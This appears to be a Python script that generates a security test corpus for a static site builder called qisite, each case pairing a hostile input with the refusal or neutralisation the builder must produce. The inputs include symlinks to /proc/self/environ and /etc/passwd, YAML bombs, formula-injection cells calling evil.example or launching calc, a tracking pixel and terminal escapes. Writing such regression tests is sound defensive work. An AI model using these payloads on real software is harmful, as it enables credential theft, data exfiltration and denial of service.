"""Write the hostile corpus: one folder per attack, each with ``expected.txt``.

A case folder holds ``project/`` (files laid over a project made by
``qisite new``, copied into the test network as projects/hostile) and/or
``network/`` (files laid over the network folder itself), and ``expected.txt``
(YAML; not named *.yaml so that qisite never reads it) with the exact outcome:

- ``outcome: problem``: the build succeeds, reports each listed problem
  (file, severity, a substring of the message), leaves the hostile project out
  when an error is listed, and builds the good project;
- ``outcome: refused``: the build stops with exit 2 and the given message,
  and no source file is changed or lost;
- ``outcome: page``: the build succeeds and the named pages hold (and do not
  hold) the given text.

``fifos`` lists paths made into named pipes, ``big_files`` paths filled to a
size, ``scaffolds`` extra project folders made by ``qisite new``, and
``environment`` variables set for the build, ``edits`` top-level lines of a
scaffolded file replaced (key → the new line). ``absent`` lists text that must
not appear in any built file. Run this script after changing a case.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import yaml

HERE = Path(__file__).parent

MEASURES = """\
measures:
  - id: main-outcome
    title: People from the affected group seen (%)
    type: outcome
    definition: Of all people referred each month, the number from the affected group who attended.
    data: data/main-outcome.csv
    x: month
    y: seen
    n: referred
    chart: p
    period: month
    unit: {unit}
    multiply: 100
    direction: increase
    target: 70
  - id: by-group
    title: Attendance by group
    type: process
    definition: Attendance by group each month.
    data: data/by-group.csv
    x: month
    y: seen
    n: referred
    group: group
    reference_group: White British
    chart: p
    period: month
    unit: "%"
    multiply: 100
    direction: increase
  - id: reasons
    title: Reasons for missed appointments
    type: process
    definition: Reasons given for missed first appointments.
    data: data/reasons.csv
    x: reason
    y: count
    chart: pareto
    unit: reasons
"""


def by_group(group: str) -> str:
    rows = ["month,group,seen,referred"]
    for month in range(1, 13):
        rows.append(f"2024-{month:02d}-01,White British,{20 + month % 3},40")
        rows.append(f"2024-{month:02d}-01,{_csv(group)},{15 + month % 4},40")
    return "\n".join(rows) + "\n"


def reasons(category: str) -> str:
    return f"reason,count\nForgot,12\n{_csv(category)},9\nTransport,4\n"


def _csv(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text


def measures_case(unit: str = '"%"', group: str = "Black British", category: str = "No interpreter") -> dict[str, str]:
    return {"measures.yaml": MEASURES.format(unit=unit), "data/by-group.csv": by_group(group),
            "data/reasons.csv": reasons(category), "data/main-outcome.csv": MAIN_OUTCOME}


MAIN_OUTCOME = "month,seen,referred\n" + "".join(f"2024-{m:02d}-01,{20 + m % 4},{40 + m % 3}\n" for m in range(1, 13))
"""main-outcome's data with one row a month (the scaffold's is stratified; these cases' measures.yaml is not)."""


def deep_yaml(levels: int) -> str:
    return "cycles: " + "[" * levels + "]" * levels + "\n"


def laughs() -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 10)]
    return "\n".join(lines) + "\ncategories:\n  - name: x\n    causes: *a9\n"


LINK_OUT = "links to a file outside its folder 'hostile', so it is not read"
PASSWD = "root:x:0:0"

CASES: dict[str, dict] = {
    # --- files outside the project folder (links), devices, pipes, sizes ---
    "story-link-to-environment": dict(
        why="story.md linked to the build process's environment (a CI token) is refused, never published",
        project={"story.md": "->/proc/self/environ"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-passwd": dict(
        why="story.md linked to the system's password file is refused",
        project={"story.md": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-stdin": dict(
        why="story.md linked to standard input is refused instead of hanging the build",
        project={"story.md": "->/dev/stdin"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-endless-device": dict(
        why="story.md linked to an endless device is refused instead of exhausting memory",
        project={"story.md": "->/dev/zero"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-named-pipe": dict(
        why="story.md that is a named pipe is refused without blocking",
        fifos=["projects/hostile/story.md"],
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error",
                                                        message="'story.md' is not a regular file (it is a pipe)")])),
    "story-too-large": dict(
        why="a story.md over the file-size limit is a located error naming the limit and its variable",
        big_files={"projects/hostile/story.md": 2}, environment={"QISITE_MAX_FILE_MB": "1"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error",
                                                        message="'story.md' is larger than the limit of 1 MB")])),
    "project-yaml-link-to-passwd": dict(
        why="project.yaml linked out of the folder is refused",
        project={"project.yaml": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/project.yaml", severity="error",
                                     message="'project.yaml' " + LINK_OUT)])),
    "measures-yaml-link-to-hostname": dict(
        why="measures.yaml linked out of the folder is refused",
        project={"measures.yaml": "->/etc/hostname"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                                        message="'measures.yaml' " + LINK_OUT)])),
    "pdsa-yaml-link-to-passwd": dict(
        why="an optional file (pdsa.yaml) linked out of the folder is refused too",
        project={"pdsa.yaml": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/pdsa.yaml", severity="error", message="'pdsa.yaml' " + LINK_OUT)])),
    "data-link-to-passwd": dict(
        why="a CSV data file linked out of the folder is refused (as before)",
        project={"data/main-outcome.csv": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                     message="the data file 'data/main-outcome.csv' is outside the project folder")])),
    "data-too-many-rows": dict(
        why="a CSV over the row limit is a located error naming the limit and its variable",
        environment={"QISITE_MAX_ROWS": "30"},   # above the scaffold's 24 rows (12 months of 2 groups)
        project={"data/main-outcome.csv": "month,group,seen,referred\n" + "".join(
            f"{2022 + m // 12}-{m % 12 + 1:02d}-01,Affected group,20,40\n" for m in range(40))},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/data/main-outcome.csv", severity="error",
                                                        message="the data file has more than 30 rows, the limit")])),
    "project-folder-link-out": dict(
        why="a project folder that is a link to a folder outside projects/ is not read",
        network={"projects/stolen": "->../elsewhere/stolen"}, scaffolds=["elsewhere/stolen"],
        expected=dict(outcome="problem", problems=[dict(file="projects/stolen", severity="error",
                                                        message="the project folder 'stolen' is a link to a folder outside 'projects'")],
                      pages={"projects/stolen/index.html": dict(exists=False)})),
    "theme-template-link-to-passwd": dict(
        why="a network template linked out of templates/ stops the build with its name (a theme is the whole network's)",
        network={"templates/home.html": "->/etc/passwd"},
        expected=dict(outcome="refused", message="home.html: 'home.html' links to a file outside its folder 'templates'")),
    "theme-asset-link-to-passwd": dict(
        why="a network static file linked out of templates/static/ stops the build with its name",
        network={"templates/static/site.css": "->/etc/passwd"},
        expected=dict(outcome="refused", message="site.css: 'site.css' links to a file outside its folder 'static'")),
    # --- YAML bombs ---
    "yaml-nested-300-levels": dict(
        why="300 levels of nesting (a 623-byte file crashed check and build) is a located error",
        project={"pdsa.yaml": deep_yaml(300)},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/pdsa.yaml", severity="error",
                                                        message="nests lists and mappings more than 50 levels deep")])),
    "yaml-billion-laughs": dict(
        why="aliases that expand to a billion values are refused before they are expanded",
        project={"fishbone.yaml": laughs()},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/fishbone.yaml", severity="error",
                                                        message="more than the limit of 100,000 beyond the file's own")])),
    # --- the output folder ---
    "output-projects-with-forged-marker": dict(
        why="output: projects with a committed .qisite-build marker is refused; projects/ is untouched",
        network={"site.yaml": "title: Hostile\noutput: projects\n", "projects/.qisite-build": "token: forged\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it is inside the projects folder")),
    "output-network-root-with-forged-marker": dict(
        why="output: . with a committed marker is refused; the checkout (and .git) is untouched",
        network={"site.yaml": "title: Hostile\noutput: .\n", ".qisite-build": "token: forged\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it is the network folder itself")),
    "output-parent-folder": dict(
        why="output: .. (a folder holding the network) is refused",
        network={"site.yaml": "title: Hostile\noutput: ..\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it contains the network folder")),
    "output-forged-marker-in-docs": dict(
        why="a committed marker in a folder of documents proves nothing: the folder is not replaced",
        network={"site.yaml": "title: Hostile\noutput: docs\n", "docs/.qisite-build": "token: forged\n",
                 "docs/handbook.md": "# The team handbook\n"},
        expected=dict(outcome="refused", message="marker does not match qisite's record")),
    "output-git-folder": dict(
        why="output: .git is refused",
        network={"site.yaml": "title: Hostile\noutput: .git\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it is inside .git/")),
    # --- team text that once stopped every team's build ---
    "dollar-maths-in-unit": dict(
        why="a $…$ in a unit is text, not maths: the build succeeds (it aborted every team's build, exit 3)",
        project=measures_case(unit='"$\\\\frac{1}{0}$ per $1,000"'),
        expected=dict(outcome="page", pages={"projects/hostile/main-outcome.svg": dict(contains=[">$\\frac{1}{0}$ per $1,000</text>"])})),
    "dollar-maths-in-group": dict(
        why="a $…$ in a group name is drawn as written",
        project=measures_case(group="$\\alpha^{2}$ group"),
        expected=dict(outcome="page", pages={"projects/hostile/by-group.svg": dict(contains=[">$\\alpha^{2}$ group</text>"]),
                                             "projects/hostile/index.html": dict(contains=["$\\alpha^{2}$ group"])})),
    "dollar-maths-in-pareto-category": dict(
        why="a $…$ in a Pareto category is drawn as written",
        project=measures_case(category="$\\sqrt{x}$ $5 fee"),
        expected=dict(outcome="page", pages={"projects/hostile/reasons.svg": dict(contains=[">$\\sqrt{x}$ $5 fee</text>"])})),
    "broken-maths-in-unit": dict(
        why="a malformed $…$ (which matplotlib cannot parse) is text too",
        project=measures_case(unit='"$\\\\frac{$ per {"'),
        expected=dict(outcome="page", pages={"projects/hostile/main-outcome.svg": dict(contains=[">$\\frac{$ per {</text>"])})),
    # --- downloads and pages ---
    "formula-cells-in-downloads": dict(
        why="download cells a spreadsheet would run are neutralised with a leading apostrophe (OWASP)",
        project=measures_case(group='=HYPERLINK("http://evil.example/?d="&A1,"Open")', category="@SUM(1+9)*cmd|' /C calc'!A0"),
        expected=dict(outcome="page", pages={
            "projects/hostile/by-group.csv": dict(contains=['"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"'],
                                                  absent=['\n=HYPERLINK', ',=HYPERLINK', '\n"=HYPERLINK']),
            "projects/hostile/reasons.csv": dict(contains=["'@SUM(1+9)*cmd|' /C calc'!A0"], absent=["\n@SUM"])})),
    "external-image-in-story": dict(
        why="a Markdown image on another host is not loaded: it becomes a link",
        project={"story.md": "# Story\n\n![our ward](https://tracker.evil.example/pixel.png?team=1)\n"},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(
            contains=['<a class="image-not-shown" href="https://tracker.evil.example/pixel.png?team=1" rel="external">[image: our ward]</a>'],
            absent=["<img src=\"https://tracker"])})),
    "bidi-override-in-team-name": dict(
        why="a right-to-left override in a team name is isolated so it cannot reverse the rest of the line",
        edits={"projects/hostile/project.yaml": {"team": "team: Ward \u202e7 drawkcab"}},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(contains=["\u2068Ward \u202e7 drawkcab\u2069"])})),
    "terminal-escape-in-measure-file": dict(
        why="terminal control sequences in a team's text are shown as escapes by check and build, never obeyed",
        project={"data/main-outcome.csv": "month,group,seen,referred\n2024-01-01,Affected group,\x1b]0;owned\x07\x1b[2J,40\n"},
        expected=dict(outcome="problem", output_absent=["\x1b"],
                      problems=[dict(file="projects/hostile/data/main-outcome.csv", severity="error", message="\\x1b]0;owned\\x07")])),
}


def write_case(name: str, case: dict) -> None:
    folder = HERE / name
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir()
    for part in ("project", "network"):
        for relative, content in case.get(part, {}).items():
            path = folder / part / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            if content.startswith("->"):
                os.symlink(content[2:], path)
            else:
                path.write_text(content, encoding="utf-8", newline="")
    expected = {"why": case["why"], **{k: case[k] for k in ("fifos", "big_files", "scaffolds", "environment", "edits")
                                       if k in case},
                **case["expected"]}
    (folder / "expected.txt").write_text(yaml.safe_dump(expected, allow_unicode=True, sort_keys=False, width=200),
                                         encoding="utf-8")


if __name__ == "__main__":
    for case_name, case_spec in CASES.items():
        write_case(case_name, case_spec)
    print(f"wrote {len(CASES)} cases into {HERE}")
